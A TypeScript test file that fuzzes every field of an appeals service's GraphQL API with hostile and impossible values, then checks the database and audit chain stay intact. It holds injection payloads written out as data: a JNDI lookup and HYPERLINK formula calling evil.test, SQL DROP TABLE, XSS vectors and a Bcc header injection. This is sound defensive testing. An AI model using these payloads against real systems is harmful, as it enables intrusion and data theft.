import { system } from '@linli/core/actor';
import { submitAppeal } from '@linli/core/appeals/submit';
import { sealAudit } from '@linli/core/audit/seal';
import { verifyAudit } from '@linli/core/audit/verify';
import { newId } from '@linli/core/ids';
import { siteByKey } from '@linli/core/sites/byKey';
import { consent } from '@linli/core/sites/consent';
import { encodeGlobalId } from '@linli/graph/ids/globalId';
import { schema } from '@linli/graph/schema';
import { type Neighbourhood, neighbourhood } from '@linli/testkit/world/neighbourhood';
import { isNonNullType } from 'graphql';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Caller, Reply } from './support/caller.ts';
import { around, leavesOf, type Path } from './support/leaves.ts';
import { documentOf, type Known, plant } from './support/planted.ts';
import { startTestServer, type TestServer } from './support/testServer.ts';

const origin = 'http://property.test';

let server: TestServer;
let here: Neighbourhood;
let callers: Readonly<Record<string, Caller>>;
let known: Known;
/** Fields that did what they are for with a hostile value in their hands. */
const worked = new Set<string>();

beforeAll(async () => {
  server = await startTestServer();
  here = await neighbourhood(server.house, { origin });
  callers = {
    widget: server.anybody.with({ origin }),
    officer: await server.anybody.signIn(here.streetOfficer),
    secretary: await server.anybody.signIn(here.secretary),
    administrator: await server.anybody.signIn(await here.district.staff('ADMINISTRATOR')),
  };
}, 60_000);
afterAll(() => server.close());

async function filed(): Promise<Known> {
  const { services } = server.house;
  const { actor } = await siteByKey(services, here.site.key, origin);
  const { appeal, receipt, participantId } = await submitAppeal(services, actor, {
    clientId: newId(),
    kind: 'HELP',
    text: '路灯不亮。',
    point: here.grid.middle,
    pointSource: 'GPS',
    contact: { phone: '13800000000', consentVersion: consent.version },
  });
  const id = encodeGlobalId('Appeal', appeal.id);
  return {
    ids: {
      id,
      appeal: id,
      participant: encodeGlobalId('Participant', participantId),
      place: encodeGlobalId('Place', here.community.placeId),
      places: encodeGlobalId('Place', here.community.placeId),
      unit: encodeGlobalId('Organization', here.committee),
      person: encodeGlobalId('Person', here.gridMember.personId),
    },
    values: {
      code: receipt.code,
      secret: receipt.secret,
      siteKey: here.site.key,
      key: here.site.key,
      version: null,
      consentVersion: consent.version,
      place: encodeGlobalId('Place', here.community.placeId),
      first: 10,
      last: null,
      after: null,
      before: null,
      website: null,
    },
  };
}

const fields = (['mutation', 'query'] as const).flatMap((kind) => {
  const root = kind === 'mutation' ? schema.getMutationType() : schema.getQueryType();
  return Object.values(root?.getFields() ?? {}).map((field) => ({ kind, field }));
});

const texts = [
  `=HYPERLINK("http://evil.test")'; DROP TABLE appeal; -- \${jndi:ldap://evil.test/a}{{7*7}}<%= 7*7 %>%s%n<script>top.pwned=1</script><img src=x onerror="top.pwned=1"><svg/onload=top.pwned=1>`,
  `\u0000a\r\nBcc: everybody@evil.test\r\n\r\n\u0007\u001b[2J\ud800`,
  '龘'.repeat(30_000),
];

const moments = [
  '9999-12-31T23:59:59.999Z',
  '0001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '2026-02-30T00:00:00Z',
];
const days = ['9999-12-31', '0001-01-01', 'infinity'];
const numbers = [-1, 2_147_483_647, 1e308];

/** A typed refusal or a success; never a fault of ours, and nothing of how we are made. */
function fault({ status, data, errors }: Reply): string | null {
  if (status >= 500) return `${status}`;
  const codes = errors.map(({ extensions }) => extensions.code);
  if (codes.includes('INTERNAL_SERVER_ERROR')) return 'INTERNAL_SERVER_ERROR';
  if (codes.some((code) => typeof code !== 'string')) return `no code: ${JSON.stringify(errors)}`;
  const told = JSON.stringify([errors, data]);
  return /prisma|node_modules|\bat \/|\.ts:\d|SQLSTATE|syntax error at|passwd:|root:x/i.test(told)
    ? told
    : null;
}

async function through(wanted: readonly string[], values: readonly unknown[]): Promise<string[]> {
  const faults: string[] = [];
  let asked = 0;
  for (const { kind, field } of fields) {
    // What one step does to an appeal must not stand in the way of the next.
    if (kind === 'mutation') known = await filed();
    const leaves: Path[] = field.args.flatMap(({ name, type }) => leavesOf(type, wanted, [name]));
    for (const path of leaves) {
      for (const value of values) {
        const names = Object.keys(callers);
        // Each in turn; over all fields and values every caller meets every kind of value.
        const name =
          kind === 'query'
            ? 'secretary'
            : // A page's own would need work done first.
              field.name === 'submitAppeal'
              ? 'officer'
              : (names[asked % names.length] ?? 'widget');
        const caller = callers[name];
        if (!caller) throw new Error(name);
        // Staff file for somebody; a page files for its site.
        const own = name === 'widget' ? known : { ...known, values: { ...known.values, siteKey: null } };
        const variables = Object.fromEntries(
          field.args.flatMap(({ name: argument, type }) => {
            const [first, ...rest] = path;
            if (argument === first) return [[argument, around(type, argument, own, rest, value)]];
            return isNonNullType(type) ? [[argument, plant(type, argument, own, false)]] : [];
          }),
        );
        const reply = await caller.ask(documentOf(kind, field), variables);
        asked += 1;
        if (/"__typename":"\w+Payload"/.test(JSON.stringify(reply.data))) worked.add(field.name);
        const wrong = fault(reply);
        if (wrong)
          faults.push(
            `${field.name} ${path.join('.')} = ${JSON.stringify(value).slice(0, 60)} as ${name}: ${wrong.slice(0, 300)}`,
          );
        // An allowance that is used up would hide what lies behind it.
        server.house.clock.pass({ minutes: 1 });
      }
    }
  }
  expect(asked).toBeGreaterThanOrEqual(values.length);
  return faults;
}

it('hostile texts through every text of every field are taken as texts or refused', async () => {
  expect(await through(['String'], texts)).toEqual([]);
  expect(await through(['ID', 'UUID'], texts.slice(0, 1))).toEqual([]);
}, 600_000);

it('times that cannot be, through every time of every field', async () => {
  expect(await through(['DateTime'], moments)).toEqual([]);
  expect(await through(['Date'], days)).toEqual([]);
}, 300_000);

it('figures that cannot be, through every figure of every field', async () => {
  expect(await through(['Int', 'Float', 'Decimal'], numbers)).toEqual([]);
}, 300_000);

it('leaves the database whole: what was there is there, and every link of the chain holds', async () => {
  const { services } = server.house;
  // It really was inside.
  expect(worked.size).toBeGreaterThanOrEqual(5);
  expect(
    await services.database.appealContent.count({ where: { text: { contains: '<script>' } } }),
  ).toBeGreaterThan(0);
  expect(
    await services.database.appealContent.count({ where: { text: { contains: 'DROP TABLE' } } }),
  ).toBeGreaterThan(0);
  expect(await services.database.user.count()).toBeGreaterThanOrEqual(6);
  await sealAudit(services, null);
  for (const report of await verifyAudit(services, system)) expect(report).toMatchObject({ broken: null });
  expect(server.logged.filter(({ message }) => message === 'unexpected error')).toEqual([]);
});
